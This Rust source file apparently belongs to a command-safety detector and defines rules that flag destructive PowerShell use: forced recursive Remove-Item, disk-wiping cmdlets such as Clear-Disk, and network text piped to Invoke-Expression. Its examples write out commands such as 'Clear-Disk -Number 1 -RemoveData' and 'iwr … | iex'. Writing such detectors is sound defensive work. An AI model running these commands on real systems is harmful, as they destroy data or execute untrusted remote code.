//! PowerShell's cmdlets that delete trees, wipe disks or run what is fetched.

use super::rule::CommandRule;
use crate::detect::destructive::example;

/// Rules about the cmdlets of PowerShell.
pub(super) const RULES: &[CommandRule] = &[
    CommandRule {
        id: "powershell-remove-tree",
        flags: "a recursive and forced `Remove-Item`, under all its names",
        programs: &["remove-item", "ri", "rm", "rmdir", "rd", "del", "erase"],
        matches: |run| {
            let recurses = run.parameter("recurse", 1) || run.is_piped;
            let registry = || {
                run.targets()
                    .any(|target| target.starts_with("hklm:") || target.starts_with("hkcu:"))
            };
            let system = || {
                run.name == "remove-item"
                    && run
                        .targets()
                        .any(|target| target.starts_with("c:\\windows"))
            };
            recurses
                && (run.parameter("force", 2) || registry() || system())
                && !run.parameter("whatif", 2)
                && !run.is_temporary()
        },
        example: example(
            "Remove-Item -Recurse -Force C:\\data",
            "Remove-Item -Recurse -Force C:\\data -WhatIf",
        ),
    },
    CommandRule {
        id: "powershell-wipe-disk",
        flags: "a disk cleared, initialised or formatted by PowerShell",
        programs: &[
            "clear-disk",
            "format-volume",
            "initialize-disk",
            "remove-partition",
            "remove-volume",
            "remove-virtualdisk",
            "remove-storagepool",
        ],
        matches: |run| !run.args.is_empty() && !run.parameter("whatif", 2),
        example: example("Clear-Disk -Number 1 -RemoveData", "Get-Disk -Number 1"),
    },
    CommandRule {
        id: "remote-to-powershell",
        flags: "text from the network run by PowerShell",
        programs: &["iex", "invoke-expression"],
        matches: |run| {
            let fetches = |arg: &String| {
                [
                    "iwr",
                    "irm",
                    "curl",
                    "wget",
                    "invoke-webrequest",
                    "invoke-restmethod",
                ]
                .contains(&arg.as_str())
                    || arg.contains("downloadstring")
            };
            run.args.iter().any(fetches)
        },
        example: example(
            "iwr -useb https://x.example/i.ps1 | iex",
            "iwr -useb https://x.example/i.ps1 -OutFile i.ps1",
        ),
    },
];
